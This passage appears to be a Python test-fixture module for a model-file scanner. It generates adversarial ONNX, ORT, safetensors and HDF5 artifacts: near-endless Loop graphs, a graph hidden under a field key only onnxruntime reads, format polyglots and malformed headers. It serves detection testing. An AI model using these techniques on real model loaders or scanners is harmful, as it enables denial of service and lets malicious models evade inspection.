        nodes, "body", [value("i", number, []), value("c", truth, []), value("v", real, [None, 2])],
        [value(goes_on, truth, []), value(rows, real, [None, 2])],
    )  # fmt: skip
    loop = helper.make_node("Loop", ["n", "t", "X"], ["y"], name="round", body=body)
    rounds = helper.make_tensor("n", number, [], [2**62])
    return [loop], rounds, helper.make_tensor("t", truth, [], [True])


def node(operator, inputs, outputs, **attributes):
    from onnx import helper

    return helper.make_node(operator, inputs, outputs, **attributes)


def endless_onnx() -> bytes:
    """Return a graph that goes round 2^62 times, and hands on what it is given."""
    nodes = node("Identity", ["c"], ["d"]), node("Identity", ["v"], ["w"])
    return loop_onnx(*nodes, goes_on="d", rows="w")


def constant_truth():
    from onnx import TensorProto, helper

    truth = helper.make_tensor("", TensorProto.BOOL, [], [True])
    return node("Constant", [], ["d"], value=truth)


@kind("endless_loop", "round")
def onnx_loop_without_a_node(canary):
    return {"model.onnx": loop_onnx()}


@kind("endless_loop", "round")
def onnx_loop_of_a_constant(canary):
    return {"model.onnx": loop_onnx(constant_truth(), goes_on="d")}


@kind("endless_loop", "a function")
def onnx_loop_that_calls_an_empty_function(canary):
    from onnx import helper

    empty = helper.make_function(
        "own", "Nothing", ["a"], ["b"], [node("Constant", [], ["b"], value_float=1.0)],
        [helper.make_opsetid("", 17)],
    )  # fmt: skip
    return {
        "model.onnx": loop_onnx(node("Nothing", ["v"], ["unused"], domain="own"), functions=[empty])
    }


@kind("endless_loop", "round")
def onnx_loop_of_casts_that_take_each_other_back(canary):
    to_double, back = node("Cast", ["v"], ["u"], to=11), node("Cast", ["u"], ["w"], to=1)
    return {"model.onnx": loop_onnx(to_double, back)}


@kind("endless_loop", "a function")
def onnx_loop_that_calls_a_function_of_casts(canary):
    from onnx import helper

    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("own", 1)]
    casts = node("Cast", ["a"], ["x"], to=11), node("Cast", ["x"], ["b"], to=1)
    inner = helper.make_function("own", "Inner", ["a"], ["b"], casts, opsets)
    call = node("Inner", ["a"], ["b"], domain="own")
    outer = helper.make_function("own", "Outer", ["a"], ["b"], [call], opsets)
    round_ = node("Outer", ["v"], ["unused"], domain="own")
    return {"model.onnx": loop_onnx(round_, functions=[inner, outer])}


def with_long_key(message: bytes, number: int) -> bytes:
    """Write the keys of a field in five bytes, of which onnxruntime drops the highest bits."""
    from registry.artifacts.onnx_files import BYTES, fields

    made = bytearray()
    for found, wire, value in fields(memoryview(message)):
        assert wire == BYTES
        key = found << 3 | wire
        made += varint(key + 2**32, 5) if found == number else varint(key, 1)
        made += varint(len(value), 5) + bytes(value)
    return bytes(made)


@kind("unknown_format", "onnx: a field without number")
def onnx_loop_under_a_key_that_only_onnxruntime_reads(canary):
    from onnx import ModelProto

    whole = ModelProto.FromString(loop_onnx())
    graph = with_long_key(whole.graph.SerializeToString(), 1)  # its nodes
    whole.ClearField("graph")
    return {"model.onnx": whole.SerializeToString() + b"\x3a" + varint(len(graph), 5) + graph}


@kind("endless_loop", "round")
def onnx_loop_whose_body_a_function_is_given(canary):
    from onnx import AttributeProto, helper

    (loop,), *tensors = endless()
    call = node("Round", ["n", "t", "X"], ["y"], domain="own")
    call.attribute.add().CopyFrom(loop.attribute[0])
    del loop.attribute[:]
    loop.attribute.add(name="body", ref_attr_name="body", type=AttributeProto.GRAPH)
    opsets = [helper.make_opsetid("", 17)]
    given = helper.make_function("own", "Round", loop.input, ["y"], [loop], opsets, ["body"])
    return {"model.onnx": onnx_bytes([call], *tensors, functions=[given])}


@kind("endless_loop", "round")
def onnx_loop_without_a_node_in_a_branch(canary):
    from onnx import TensorProto, helper

    loop, *tensors = endless()
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])
    z = helper.make_tensor_value_info("z", TensorProto.FLOAT, [None, 2])
    branches = {
        "then_branch": helper.make_graph(loop, "then", [], [y]),
        "else_branch": helper.make_graph([node("Identity", ["X"], ["z"])], "else", [], [z]),
    }
    return {"model.onnx": onnx_bytes([node("If", ["t"], ["y"], **branches)], *tensors)}


def ort_bytes(onnx: bytes) -> bytes:
    """Return a graph in onnxruntime's own format."""
    import tempfile

    import onnxruntime

    options = onnxruntime.SessionOptions()
    options.add_session_config_entry("session.save_model_format", "ORT")
    options.graph_optimization_level = onnxruntime.GraphOptimizationLevel.ORT_DISABLE_ALL
    with tempfile.TemporaryDirectory() as folder:
        options.optimized_model_filepath = f"{folder}/model.ort"
        onnxruntime.InferenceSession(onnx, options, providers=["CPUExecutionProvider"])
        return Path(options.optimized_model_filepath).read_bytes()


@kind("unknown_format", "a model of onnxruntime's own (ORT)")
def ort_model(canary):
    return {"model.onnx": ort_bytes(arithmetic("Mul", 100.0))}


def varint(number: int, n_bytes: int) -> bytes:
    groups = [number >> 7 * place & 0x7F for place in range(n_bytes)]
    return bytes([group | 0x80 for group in groups[:-1]] + groups[-1:])


@kind("unknown_format", "a model of onnxruntime's own (ORT)")
def ort_model_that_reads_as_onnx(canary):
    """Its root table is moved to where an ONNX file has a long property, before another graph."""
    ort = ort_bytes(arithmetic("Mul", 100.0))
    head = bytes([0x08, 0x08, 0x11, 0x00]) + b"ORTM" + bytes(3)
    (old,), (new,) = struct.unpack_from("<I", ort), struct.unpack_from("<I", head)
    table = old - struct.unpack_from("<i", ort, old)[0]
    n_table, n_root = struct.unpack_from("<HH", ort, table)
    begin = (new + n_root + 256) // 16 * 16
    made = bytearray(begin + len(ort))
    made[: len(head)] = head
    made[len(head) : len(head) + 4] = b"\x7a" + varint(len(made) - len(head) - 4, 3)
    made[new - 64 : new - 64 + n_table] = ort[table : table + n_table]
    made[new : new + n_root] = struct.pack("<i", 64) + ort[old + 4 : old + n_root]
    for place in struct.unpack_from(f"<{(n_table - 4) // 2}H", ort, table + 4):
        if place:
            (far,) = struct.unpack_from("<I", ort, old + place)
            struct.pack_into("<I", made, new + place, old + far + begin - new)
    made[begin:] = ort
    return {"model.onnx": bytes(made) + arithmetic("Add", 1.0)}


@kind("unknown_format", "the tensors overlap or leave gaps")
def safetensors_that_overlap(canary):
    field = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    header = json.dumps({"a": field, "b": field}).encode()
    return {"model.safetensors": struct.pack("<Q", len(header)) + header + bytes(8)}


def tensors(header: dict, content: bytes, n_header: int = 0) -> bytes:
    head = json.dumps(header).encode().ljust(n_header)
    return struct.pack("<Q", len(head)) + head + content


@kind("unknown_format", "safetensors: a damaged safetensors header")
def safetensors_between_two_bytes(canary):
    field = {"dtype": "F32", "shape": [2], "data_offsets": [0.0, 8.0]}
    return {"model.safetensors": tensors({"a": field}, bytes(8))}


@kind("unknown_format", "is no map of texts")
def safetensors_with_more_than_words(canary):
    field = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    header = {"__metadata__": {"code": {"a": [1]}}, "a": field}
    return {"model.safetensors": tensors(header, bytes(8))}


@kind("polyglot", "goes on as HDF5")
def safetensors_that_is_hdf5_to_its_readers(canary):
    field = {"dtype": "U8", "shape": [2048], "data_offsets": [0, 2048]}
    made = tensors({"a": field}, b"\x89HDF\r\n\x1a\n".ljust(2048, b"\0"), 504)
    return {"model.h5": made}


@kind("empty", "not one byte")
def nothing_at_all(canary):
    return {"model.skops": b""}


@kind("unknown_format", "a program (ELF)")
def program(canary):
    return {"model.skops": b"\x7fELF" + bytes(60)}


@kind("unknown_format", "HDF5")
def hdf5(canary):
    return {"model.skops": b"\x89HDF\r\n\x1a\n" + bytes(60)}
